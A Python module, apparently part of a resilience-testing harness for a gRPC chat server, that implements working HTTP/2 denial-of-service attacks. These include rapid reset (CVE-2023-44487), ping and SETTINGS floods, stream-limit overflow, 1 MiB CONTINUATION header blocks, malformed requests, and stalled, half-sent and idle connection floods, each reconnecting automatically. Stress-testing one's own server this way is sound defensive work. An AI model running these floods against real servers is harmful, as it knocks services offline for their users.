"""HTTP/2 attacks: floods of cheap frames, streams past the limit, half-sent messages, stalled
and idle connections, malformed requests. Each attacker is the `h2` library on raw TCP, and
opens a new connection whenever the server closes one."""

import asyncio
import contextlib
import time
from collections.abc import Callable

from h2.errors import ErrorCodes
from h2.exceptions import ProtocolError
from h2.settings import SettingCodes

from abuse.attacker import CHAT, RawClient, connect, grpc_message, request_headers
from abuse.harness import Attack, AttackRun, Target

Burst = Callable[[RawClient], None]
"""Queues one burst of frames on a connection (sent by the caller)."""


async def reconnecting(target: Target, seconds: float, burst: Burst, opening: Burst) -> None:
    """Sends `burst` after burst for `seconds`, on a connection opened again (`opening` first)
    each time the server closes it."""
    end = time.monotonic() + seconds
    client: RawClient | None = None
    try:
        while time.monotonic() < end:
            if client is None or not client.alive:
                if client is not None:
                    await client.close()
                client = await connect(target)
                with contextlib.suppress(ProtocolError):
                    opening(client)
            try:
                burst(client)
            except ProtocolError:  # the server's GOAWAY arrived
                client.closed.set()
            await client.flush()
            await asyncio.sleep(0)  # the reader runs: GOAWAY noticed
    finally:
        if client is not None:
            await client.close()


def nothing(client: RawClient) -> None:
    """No opening."""


def resets(client: RawClient) -> None:
    for _ in range(100):
        stream_id = client.h2.get_next_available_stream_id()
        client.h2.send_headers(stream_id, request_headers())
        client.h2.reset_stream(stream_id, ErrorCodes.CANCEL)


def pings(client: RawClient) -> None:
    for number in range(100):
        client.h2.ping(number.to_bytes(8, "big"))


def chats(client: RawClient) -> None:
    """Ninety chat streams, open and quiet: what a SETTINGS flood makes the server walk."""
    for number in range(90):
        stream_id = client.h2.get_next_available_stream_id()
        client.h2.send_headers(stream_id, request_headers(CHAT, [("chat-user", f"s{number}")]))


def window_changes(client: RawClient) -> None:
    for number in range(50):
        client.h2.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 65535 + number % 2})


def empty_frames(client: RawClient) -> None:
    stream_id = client.h2.highest_outbound_stream_id or 1
    for _ in range(100):
        client.h2.send_data(stream_id, b"")


def one_chat(client: RawClient) -> None:
    client.h2.send_headers(1, request_headers(CHAT, [("chat-user", "empty")]))


def too_many_streams(client: RawClient) -> None:
    """Past the server's stream limit, told to the client's h2 as higher than it is."""
    client.h2.remote_settings.update({SettingCodes.MAX_CONCURRENT_STREAMS: 2**31 - 1})
    client.h2.remote_settings.acknowledge()
    for number in range(20):
        stream_id = client.h2.get_next_available_stream_id()
        client.h2.send_headers(stream_id, request_headers(CHAT, [("chat-user", f"o{number}")]))


MALFORMED = (
    [(":scheme", "http"), (":path", "/grpc.chat.ChatService/GetStats")],
    [*request_headers(), ("x-name", "caf\xe9")],
    [*request_headers(), ("x-bin", "Y")],
    [*request_headers(), ("grpc-timeout", "0n")],
)


def malformed(client: RawClient) -> None:
    for headers in MALFORMED * 10:
        stream_id = client.h2.get_next_available_stream_id()
        encoded = [(name.encode(), value.encode("latin-1")) for name, value in headers]
        client.h2.send_headers(stream_id, encoded, end_stream=True)


def huge_headers(client: RawClient) -> None:
    """A 1 MiB header block (h2 splits it into CONTINUATION frames)."""
    client.h2.max_outbound_frame_size = 16384
    stream_id = client.h2.get_next_available_stream_id()
    client.h2.send_headers(stream_id, request_headers(extra=[("x-big", "a" * 8000)] * 128))


def repeating(burst: Burst, opening: Burst = nothing) -> AttackRun:
    async def run(target: Target, seconds: float) -> None:
        await reconnecting(target, seconds, burst, opening)

    return run


async def half_sent(target: Target, seconds: float) -> None:
    """Connections whose streams each announce a 64 KiB message and send part of it, then
    wait; opened again as the server ends them."""
    end = time.monotonic() + seconds
    clients: list[RawClient] = []
    try:
        while time.monotonic() < end:
            clients = [client for client in clients if client.alive]
            while len(clients) < 20:
                client = await connect(target)
                clients.append(client)
                with contextlib.suppress(ProtocolError):
                    for number in range(50):
                        stream_id = client.h2.get_next_available_stream_id()
                        headers = request_headers(CHAT, [("chat-user", f"h{number}")])
                        client.h2.send_headers(stream_id, headers)
                        partial = grpc_message(b"x" * 65000)[:60000]
                        client.h2.send_data(stream_id, partial)
                await client.flush()
            waits = [asyncio.create_task(c.closed.wait()) for c in clients]
            await asyncio.wait(
                waits,
                timeout=max(0.0, min(1.0, end - time.monotonic())),
                return_when=asyncio.FIRST_COMPLETED,
            )
            for wait in waits:
                wait.cancel()
    finally:
        for client in clients:
            await client.close()


async def stalled(target: Target, seconds: float) -> None:
    """Connections that send nothing, half a preface, or half a frame, and stall; opened
    again as the server closes them, up to 300 at once (past the per-address limit)."""
    end = time.monotonic() + seconds
    writers: list[asyncio.StreamWriter] = []
    readers: set[asyncio.Task[None]] = set()
    openings = (b"", b"PRI * HTTP/2.0\r\n", None)
    number = 0
    try:
        while time.monotonic() < end:
            writers = [writer for writer in writers if not writer.is_closing()]
            while len(writers) < 300 and time.monotonic() < end:
                try:
                    reader, writer = await asyncio.open_connection(target.host, target.port)
                except OSError:  # refused: over the server's limit
                    break
                opening = openings[number % len(openings)]
                number += 1
                writer.write(opening if opening is not None else half_a_frame())
                writers.append(writer)
                reading = asyncio.create_task(_close_on_eof(reader, writer))
                readers.add(reading)
                reading.add_done_callback(readers.discard)
            await asyncio.sleep(0.2)  # pacing: the attacker's own loop, not a wait for the server
    finally:
        for writer in writers:
            writer.close()
        for reading in list(readers):
            reading.cancel()


def half_a_frame() -> bytes:
    """A preface, SETTINGS, and the first bytes of a HEADERS frame."""
    from h2.config import H2Configuration
    from h2.connection import H2Connection

    h2 = H2Connection(H2Configuration(client_side=True))
    h2.initiate_connection()
    return h2.data_to_send() + b"\x00\x01\x00\x01\x04\x00\x00\x00\x01"


async def _close_on_eof(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(65536):
            pass
    writer.close()


async def idle(target: Target, seconds: float) -> None:
    """As many connections as the server takes, each with a preface and nothing more."""
    end = time.monotonic() + seconds
    clients: list[RawClient] = []
    try:
        while time.monotonic() < end:
            clients = [client for client in clients if client.alive]
            for _ in range(100):
                try:
                    clients.append(await connect(target))
                except OSError:
                    break
            await asyncio.sleep(0.2)  # pacing
    finally:
        for client in clients:
            await client.close()


ATTACKS = [
    Attack(
        "rapid-reset",
        repeating(resets),
        about="HEADERS then RST_STREAM, 100 a burst, as fast as it can (CVE-2023-44487)",
    ),
    Attack("ping-flood", repeating(pings), about="PING frames, 100 a burst"),
    Attack(
        "settings-flood",
        repeating(window_changes, chats),
        about="90 chat streams open, then SETTINGS changing INITIAL_WINDOW_SIZE, 50 a burst",
    ),
    Attack(
        "empty-frames",
        repeating(empty_frames, one_chat),
        about="empty DATA frames on an open chat stream, 100 a burst",
    ),
    Attack(
        "stream-overflow",
        repeating(too_many_streams),
        about="chat streams opened past the server's limit, 20 a burst",
        # grpclib's server keeps a closed connection's handler until its own sweep, ten calls
        # later: on the reference path a short run ends with 10-25% over idle, the full run's
        # 20 s of settling within 10%.
        short_rss_settle=0.4,
    ),
    Attack(
        "huge-headers",
        repeating(huge_headers),
        about="1 MiB header blocks in CONTINUATION frames",
    ),
    Attack(
        "malformed",
        repeating(malformed),
        about="requests without :method, with non-ASCII bytes, bad base64, grpc-timeout 0n",
    ),
    Attack(
        "half-sent",
        half_sent,
        about="20 connections x 50 streams, each 60 KB into a 65 KB message, then silent",
    ),
    Attack(
        "stalled",
        stalled,
        about="up to 300 connections: nothing, half a preface, or half a frame, then silent",
        short_rss_settle=0.10,
    ),
    Attack(
        "idle-flood",
        idle,
        about="as many idle connections as the server accepts",
        short_rss_settle=0.10,
    ),
]
